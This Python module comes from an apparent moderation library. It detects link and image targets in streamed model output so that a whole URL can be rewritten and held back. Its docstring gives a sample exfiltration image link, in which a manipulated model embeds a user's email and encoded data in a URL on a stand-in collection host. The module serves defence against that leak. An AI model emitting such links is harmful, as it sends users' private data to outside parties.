r"""Targets of links and images: what a client fetches when it shows a text, or when somebody clicks.

A model that was talked into it writes ``![](https://collect.example/?mail=ann@example.com&d=MTIz...)``. To redact the
address in it is not enough: the rest of the target may hold the same value, or another, in a form that nobody looks
for. So this detector finds no values but structure, spans of the entity ``LINK``; the channel
(:mod:`cotguard.moderation.channel`) rewrites a target as a whole if anything in it is rewritten, and holds it until its
end. Targets are

* what stands between ``](`` and its ``)`` in Markdown, the title included;
* ``<scheme:...>`` and ``<//...>``, an autolink or the target of a reference definition;
* ``http://``, ``https://``, ``//`` and ``www.`` up to white space, a quote or a closing parenthesis that was not
  opened: bare links, and reference definitions;
* an HTML tag that takes a URL, such as ``<a href=...>`` and ``<img src=...>``, as a whole.

A target longer than ``MAX_TARGET`` characters, or one that nothing closes, is reported in pieces of that length. What
is on hold is never longer. No other target is looked for inside one. Work is linear.

Known limits: the text of a link is no part of its target. Links are found in code as well, where none is rendered.
"""

import re
from collections.abc import Sequence
from enum import Enum, auto
from typing import Final

from cotguard.detectors.contract import Scope, Session
from cotguard.spans import ChannelKind, Span

__all__ = ["LINK", "MAX_TARGET", "LinkTargets"]

LINK: Final = "LINK"
"""The entity of the spans. It is structure, which policies have no rules for, and not in the taxonomy."""

MAX_TARGET: Final = 2048
"""Characters of one piece: about what browsers and servers agree on for URLs."""

_KINDS: Final = frozenset({ChannelKind.REASONING, ChannelKind.OUTPUT, ChannelKind.REFUSAL, ChannelKind.OTHER})

_TAGS = "a|area|audio|base|embed|form|iframe|image|img|input|link|object|script|source|track|use|video"
_BEGIN = re.compile(
    r"(?P<inline>\]\()|(?P<angled><(?:[a-z][a-z0-9+.-]{1,31}:|//))"
    rf"|(?P<tag><(?:{_TAGS})[\s/])|(?P<bare>https?://|(?<![a-z0-9+.<-])www\.|(?<!:)//)",
    re.IGNORECASE,
)
_BEGUN = re.compile(
    r"(?:\]|<(?:[a-z][a-z0-9+.-]{0,31}|/)?|h(?:t(?:t(?:ps?(?::/?)?)?)?)?|w{1,3}|(?<!:)/)\Z", re.IGNORECASE
)
_BEGUN_CHARS = 34
"""More than the longest beginning that is not complete."""


class _Form(Enum):
    INLINE = auto()
    ANGLED = auto()
    TAG = auto()
    BARE = auto()


_FORMS = {"inline": _Form.INLINE, "angled": _Form.ANGLED, "tag": _Form.TAG, "bare": _Form.BARE}
_NOTABLE = {
    _Form.INLINE: re.compile(r"[()<>\"'\\\s]"),
    _Form.ANGLED: re.compile(r"[>\n]"),
    _Form.TAG: re.compile(r"[>\"'=\s]"),
    _Form.BARE: re.compile(r"[()<>\"`\]\s]"),
}
"""The characters that may end a target, or change what ends it."""

_TRAILING = ".,;:!?'*_~"
"""Behind a bare link these belong to the sentence."""


class LinkTargets:
    """See the module."""

    name: Final = "links"
    entities: Final = frozenset({LINK})

    def open(self, scope: Scope) -> Session | None:
        return _LinkSession(scope.context) if scope.kind in _KINDS else None


class _LinkSession:
    """One channel. ``_text`` holds it from ``_base`` on, ``_at`` is where reading goes on, both absolute.

    Inside a target ``_start`` is where its current piece begins, ``_depth`` counts open parentheses and ``_quote`` is
    what ends a quoted part. ``_before`` is what was read last: a notable character, a line break also if other white
    space followed, or ``"x"`` for any other; nothing in the beginning.
    """

    __slots__ = ("_at", "_base", "_before", "_depth", "_form", "_quote", "_start", "_text")

    def __init__(self, context: str) -> None:
        self._base = self._at = self._start = -len(context)
        self._text = ""
        self._form: _Form | None = None
        self._depth = 0
        self._quote = ""
        self._before = ""
        if context:
            self.advance(context, final=False)

    def advance(self, text: str, final: bool) -> tuple[Sequence[Span], int]:
        self._text += text
        end = self._base + len(self._text)
        spans: list[Span] = []
        stable = end
        while True:
            if self._form is None:
                begin = _BEGIN.search(self._text, self._at - self._base)
                if begin is None:
                    stable = self._wait(end, final)
                    break
                self._form = _FORMS[begin.lastgroup or ""]
                self._at = self._base + begin.end()
                self._start = self._at if self._form is _Form.INLINE else self._base + begin.start()
                self._depth, self._quote, self._before = 0, "", ""
            elif not self._read(self._form, end, final, spans):
                stable = end if final else self._start
                break
        self._forget(min(stable, self._at))
        return spans, stable

    def _wait(self, end: int, final: bool) -> int:
        """Nothing begins in the text there is. Returns the offset before which nothing will."""
        begun = None if final else _BEGUN.search(self._text, max(self._at - self._base, len(self._text) - _BEGUN_CHARS))
        self._at = end if begun is None else self._base + begun.start()
        return end if begun is None or begun[0] == "]" else self._at

    def _read(self, form: _Form, end: int, final: bool, spans: list[Span]) -> bool:
        """Read on inside a target. Returns whether it has ended."""
        notable = _NOTABLE[form]
        while True:
            found = notable.search(self._text, self._at - self._base)
            offset = end if found is None else self._base + found.start()
            if offset > self._at:
                self._before = "x"
            self._at = offset
            self._split(spans)
            if found is None:
                break
            character = found[0]
            if character == "\\" or (character == "]" and not self._quote):
                following = self._text[found.end() : found.end() + 1]
                if not following and not final:
                    return False
                if character == "]" and following == "(":
                    return self._end(offset, spans)
                self._at += 1 if character == "]" else min(2, end - offset)
                self._before = "x"
            elif self._closes(form, character):
                return self._end(offset + (character == ">" and form is not _Form.BARE), spans)
            else:
                self._at += 1
        if final:
            return self._end(end, spans)
        return False

    def _closes(self, form: _Form, character: str) -> bool:
        """Take a notable character; returns whether the target ends with it, or before it."""
        before = self._before
        blank = character == "\n" == before
        self._before = "\n" if before == "\n" and character.isspace() else character
        if form is _Form.ANGLED or blank:
            return True
        if self._quote:
            if character == self._quote:
                self._quote = ""
            return False
        if form is _Form.TAG:
            if character in "\"'" and (before == "=" or before.isspace()):
                self._quote = character
            return character == ">"
        if character == "(":
            self._depth += 1
        elif character == ")":
            self._depth -= 1
            return self._depth < 0
        elif form is _Form.BARE:
            return True
        elif character == "<" and (not before or before.isspace()):
            self._quote = ">"
        elif character in "\"'" and before.isspace():
            self._quote = character
        return False

    def _split(self, spans: list[Span]) -> None:
        while self._at - self._start > MAX_TARGET:
            self._report(self._start + MAX_TARGET, spans)
            self._start += MAX_TARGET

    def _end(self, end: int, spans: list[Span]) -> bool:
        self._at = end
        if self._form is _Form.BARE:
            while end > self._start and self._text[end - self._base - 1] in _TRAILING:
                end -= 1
        self._report(end, spans)
        self._form = None
        return True

    def _report(self, end: int, spans: list[Span]) -> None:
        if end > max(self._start, 0):
            spans.append(Span(self._start, end, LINK, 1.0, f"{LinkTargets.name}/target"))

    def _forget(self, offset: int) -> None:
        """Drop what is before ``offset``, one character apart, which decides what begins there."""
        if offset - 1 > self._base:
            self._text = self._text[offset - 1 - self._base :]
            self._base = offset - 1
